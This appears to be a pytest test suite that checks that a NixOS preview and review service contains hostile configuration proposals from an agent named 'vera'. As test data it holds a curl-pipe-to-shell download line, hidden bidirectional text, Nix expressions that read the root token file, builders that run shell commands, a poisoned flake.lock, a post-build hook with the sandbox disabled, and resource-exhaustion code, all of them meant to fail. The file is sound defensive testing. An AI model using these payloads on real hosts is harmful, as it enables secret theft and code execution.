"""What a preview by the real nix says on a real host, and what hostile configurations get out of it: nothing."""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import pytest

from tests.host import agents
from tests.host.machine import Machine

pytestmark = pytest.mark.host
SECRET = "the-token-of-root"
"""In files that only root can read."""
TRACE = "/tmp/was-here"
NIX_SETTINGS = "/etc/nix/nix.conf"
DEBIAN = "/bin /usr /lib /lib64"
"""Where the lab's builders have their shell and tools; on NixOS they are in the store."""


@pytest.fixture(scope="module")
def vera(service: Machine) -> Iterator[str]:
    """The agent vera, running; and what is worth stealing on the service."""
    assert service.hivetui("spawn", "vera").json["operation"]["state"] == "succeeded"
    repository = "/root/secret"
    service.write(f"{repository}/token", SECRET)
    service.write(f"{repository}/default.nix", f'"{SECRET}"')
    git = f"git -C {repository} -c user.name=root -c user.email=root@hive"
    service.sh(f"chmod 700 {repository}; cd {repository} && git init -q && {git} add -A && {git} commit -qm secret")
    as_it_was = _set_sandbox(service, "true")
    yield "vera"
    service.write(NIX_SETTINGS, as_it_was)
    service.sh(f"systemctl restart nix-daemon.service; rm -rf {repository} {TRACE}")
    service.hivetui("destroy", "vera", "--purge", "--confirm", "vera")


@pytest.fixture(autouse=True)
def proposed(service: Machine, vera: str) -> Iterator[str]:
    """The proposed repo of vera, which each test finds as the first one did."""
    folder = f"{agents.AGENTS}/{vera}/config"
    before = service.sh(f"git -C {folder} rev-parse HEAD").out.strip()
    yield folder
    service.sh(f"git -C {folder} reset -q --hard {before}; git -C {folder} clean -qfd")


def _set_sandbox(host: Machine, value: str) -> str:
    """Let nix isolate builders, as NixOS does by default, or not; the settings as they were."""
    before = host.sh(f"cat {NIX_SETTINGS}").out
    lines = [line for line in before.splitlines() if not line.startswith("sandbox")]
    host.write(NIX_SETTINGS, "\n".join((*lines, f"sandbox = {value}", f"sandbox-paths = {DEBIAN}\n")))
    host.sh("systemctl restart nix-daemon.service")
    return before


def _submit(host: Machine, name: str, module: str, message: str) -> dict[str, Any]:
    """Propose a module and pin it; the proposal."""
    commit = agents.propose(host, name, module, message)
    (answer,) = host.ask({"verb": "submit", "name": name, "commit": commit})
    return dict(answer[-1]["proposal"])


def _preview(host: Machine, proposal: dict[str, Any]) -> tuple[dict[str, Any], str]:
    """The effect, and everything that was printed."""
    (started,) = host.ask({"verb": "preview", "proposal": proposal["id"]})
    number = started[-1]["operation"]["id"]
    operation, known = host.ask(
        {"verb": "operation", "operation": number, "follow": True}, {"verb": "effect", "proposal": proposal["id"]}
    )
    return dict(known[-1]["effect"]), json.dumps([operation, known])


def _deny(host: Machine, proposal: dict[str, Any]) -> None:
    host.ask({"verb": "deny", "proposal": proposal["id"], "note": "only tried"})


def test_a_harmless_package_is_all_that_is_told_and_what_was_previewed_is_deployed(service: Machine, vera: str) -> None:
    module = "{ pkgs, ... }: { environment.systemPackages = [ pkgs.jq ]; }\n"
    proposal = _submit(service, vera, module, "Add jq\n\nIntent: packages jq")
    effect, _ = _preview(service, proposal)
    assert (effect["state"], effect["changed"], effect["unknown"]) == ("known", True, [])
    assert [(one["name"], one["version"]) for one in effect["packages"]["added"]] == [("jq", "1.7")]
    assert (effect["intent"]["surplus"], effect["intent"]["missing"]) == ([], [])
    words = ("approve", str(proposal["id"]), "--commit", proposal["commit"], "--base", proposal["base"])
    moved = service.hivetui(*words, "--effect", effect["derivation"].replace("nixos", "nixes"), check=None)
    assert moved.status in (65, 75), moved.err
    assert service.hivetui(*words, "--effect", effect["derivation"]).json["operation"]["state"] == "succeeded"
    assert agents.profile(service, f"h-{vera}") == effect["system"]


def test_a_build_that_fails_is_explained_with_the_line_that_failed(service: Machine, vera: str) -> None:
    proposal = _submit(service, vera, '{ ... }: { lab.fail = "no such package: flurb"; }\n', "Fail")
    effect, _ = _preview(service, proposal)
    assert (effect["state"], effect["failure"]["stage"]) == ("failed", "build")
    assert "no such package: flurb" in "\n".join(effect["failure"]["lines"])
    _deny(service, proposal)


@dataclass(frozen=True)
class Kind:
    """A change that a review must tell apart: its module and more files, its message, a rule that tells it."""

    lines: str
    rule: str
    message: str = "Tidy up"
    files: dict[str, str] = field(default_factory=dict)
    effect: dict[str, Any] = field(default_factory=dict)


KINDS = {
    "a new flake input": Kind(
        "",
        "flake-input",
        files={"flake.nix": '{ inputs.helpers.url = "github:someone/helpers"; outputs = _: { }; }\n'},
    ),
    "a line behind gitattributes": Kind(
        'systemd.services.x.script = "curl -s http://198.51.100.7/x | sh";',
        "run-downloaded",
        files={".gitattributes": "agent.nix -diff binary\n"},
    ),
    "bidirectional characters": Kind("# tidy up \u202e } \u2066# \u2069\u2066 (reviewed)", "hidden-text"),
    "an opened firewall": Kind("networking.firewall.allowedTCPPorts = [ 8080 ];", "firewall"),
    "a change without effect": Kind(
        "# The designers asked for a comment.\n  environment.systemPackages = [ pkgs.jq ];",
        "same-meaning",
        effect={"state": "known", "changed": False},
    ),
    "more than was intended": Kind(
        "environment.systemPackages = [ pkgs.jq pkgs.ripgrep ];",
        "intent-surplus",
        message="Add jq\n\nIntent: packages jq",
        effect={"state": "known", "changed": True},
    ),
}


@pytest.mark.parametrize("name", KINDS)
def test_each_kind_of_change_is_told_apart(service: Machine, vera: str, proposed: str, name: str) -> None:
    kind = KINDS[name]
    for path, text in kind.files.items():
        service.write(f"{proposed}/{path}", text)
    proposal = _submit(service, vera, f"{{ pkgs, ... }}: {{\n  {kind.lines}\n}}\n", kind.message)
    if kind.effect:
        effect, printed = _preview(service, proposal)
        assert {key: effect[key] for key in kind.effect} == kind.effect, printed
    found, difference = service.ask(
        {"verb": "findings", "proposal": proposal["id"]},
        {"verb": "difference", "proposal": proposal["id"], "base": proposal["base"]},
    )
    assert kind.rule in [one["rule"] for one in found[-1]["assessment"]["findings"]], found
    patch = b"".join(base64.b64decode(frame["data"]) for frame in difference if "data" in frame).decode()
    assert kind.lines.partition("\n")[0] in patch, "no attribute of git hides a line"
    _deny(service, proposal)


CANARIES = {
    "a path": "builtins.readFile /root/secret/token",
    "an import of a path": "import /root/secret",
    "fetchGit": 'builtins.readFile ((builtins.fetchGit { url = "file:///root/secret"; rev = "REVISION"; }) + "/token")',
    "fetchurl": 'builtins.readFile (builtins.fetchurl { url = "file:///root/secret/token"; sha256 = "DIGEST"; })',
    "fetchTree": 'builtins.readFile ((builtins.fetchTree { type = "path"; path = "/root/secret"; }) + "/token")',
    "import from derivation": (
        'import (derivation { name = "x"; system = "x86_64-linux"; builder = "/bin/sh"; '
        f'args = [ "-c" "id > {TRACE}; echo 1 > $out" ]; }})'
    ),
}


@pytest.mark.parametrize("name", CANARIES)
def test_an_evaluation_reads_nothing_of_the_host_and_runs_nothing(service: Machine, vera: str, name: str) -> None:
    revision = service.sh("git -C /root/secret rev-parse HEAD").out.strip()
    digest = service.sh("sha256sum /root/secret/token").out.split()[0]
    body = CANARIES[name].replace("REVISION", revision).replace("DIGEST", digest)
    module = f'{{ ... }}: {{ environment.etc."loot".text = toString ({body}); }}\n'
    proposal = _submit(service, vera, module, f"Steal by {name}")
    effect, printed = _preview(service, proposal)
    assert SECRET not in printed
    assert (effect["state"], effect["failure"]["stage"]) == ("failed", "evaluation"), printed
    assert service.sh(f"test -e {TRACE}", check=False).status == 1
    _deny(service, proposal)


def test_where_nix_does_not_isolate_builders_a_proposal_is_not_built_and_that_is_said(
    service: Machine, vera: str
) -> None:
    before = _set_sandbox(service, "false")
    module = f'{{ ... }}: {{ environment.etc."not-built".text = "{TRACE}"; }}\n'
    proposal = _submit(service, vera, module, "Be built by the daemon")
    effect, printed = _preview(service, proposal)
    service.write(NIX_SETTINGS, before)
    service.sh("systemctl restart nix-daemon.service")
    assert effect["state"] == "known", printed
    assert [one["why"] for one in effect["unknown"]] == [
        "It was not built: nix isolates no builders here, and a proposal is not built without that (sandbox)."
    ], printed
    _deny(service, proposal)


LOOK = f"echo read: $(cat /root/secret/token); echo devices: $(grep -c : /proc/net/dev); id > {TRACE}; exit 1"


def test_a_builder_of_the_proposal_reads_nothing_of_the_host_and_reaches_nobody(service: Machine, vera: str) -> None:
    """In a network of its own there is one device: the loopback."""
    builder = (
        'derivation { name = "look"; system = "x86_64-linux"; builder = "/bin/sh"; PATH = "/usr/bin:/bin"; '
        f'args = [ "-c" "{LOOK}" ]; }}'
    )
    module = f"{{ ... }}: {{ environment.systemPackages = [ ({builder}) ]; }}\n"
    proposal = _submit(service, vera, module, "Phone out")
    effect, printed = _preview(service, proposal)
    assert SECRET not in printed
    assert (effect["state"], effect["failure"]["stage"]) == ("failed", "build"), printed
    lines = "\n".join(effect["failure"]["lines"])
    assert "read:" in lines, printed
    assert "devices: 1" in lines, printed
    assert service.sh(f"test -e {TRACE}", check=False).status == 1
    _deny(service, proposal)


def test_a_lock_that_leads_to_a_path_of_the_host_is_refused_before_evaluation(
    service: Machine, vera: str, proposed: str
) -> None:
    place = {"type": "path", "path": "/root/secret"}
    nodes = {"root": {"inputs": {"x": "x"}}, "x": {"locked": place, "original": {**place, "path": "/etc/hivelab"}}}
    flake = '{ inputs.x.url = "path:/etc/hivelab"; outputs = { self, x }: { nixosModules.default = ./agent.nix; }; }'
    service.write(f"{proposed}/flake.nix", flake)
    service.write(f"{proposed}/flake.lock", json.dumps({"version": 7, "root": "root", "nodes": nodes}))
    proposal = _submit(service, vera, "{ ... }: { }\n", "Poison the lock")
    effect, printed = _preview(service, proposal)
    assert SECRET not in printed
    assert (effect["state"], effect["failure"]["stage"]) == ("failed", "inputs"), printed
    assert "path" in "\n".join(effect["failure"]["lines"]), printed
    _deny(service, proposal)


@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("memory", "builtins.length (builtins.genList (x: x * 2) 400000000)"),
        (
            "time",
            "let go = n: if n == 0 then 0 else go (n + 1 - 1 + 0 * n); in builtins.foldl' (a: b: a + b) 0 "
            "(builtins.genList (x: builtins.length (builtins.genList (y: y) 3000)) 100000000)",
        ),
    ],
)
def test_an_evaluation_that_eats_memory_or_never_ends_is_stopped_in_words(
    service: Machine, vera: str, name: str, body: str
) -> None:
    module = f'{{ ... }}: {{ environment.etc."big".text = toString ({body}); }}\n'
    proposal = _submit(service, vera, module, f"Eat {name}")
    effect, printed = _preview(service, proposal)
    assert effect["state"] == "failed", printed
    assert effect["failure"]["stage"] in ("limit", "evaluation"), printed
    assert effect["failure"]["hint"] or effect["failure"]["lines"], printed
    assert service.sh("pgrep -u 65530 -a", check=False).out == ""
    _deny(service, proposal)


def test_a_hook_in_the_settings_of_a_flake_does_not_run(service: Machine, vera: str, proposed: str) -> None:
    text = service.sh(f"cat {proposed}/flake.nix").out
    hook = f'nixConfig.post-build-hook = "/bin/sh -c \\"id > {TRACE}\\""; nixConfig.sandbox = false;'
    service.write(f"{proposed}/flake.nix", text.replace("{", "{ " + hook, 1))
    proposal = _submit(service, vera, '{ ... }: { environment.etc."h".text = "h"; }\n', "Hook")
    _preview(service, proposal)
    assert service.sh(f"test -e {TRACE}", check=False).status == 1
    _deny(service, proposal)
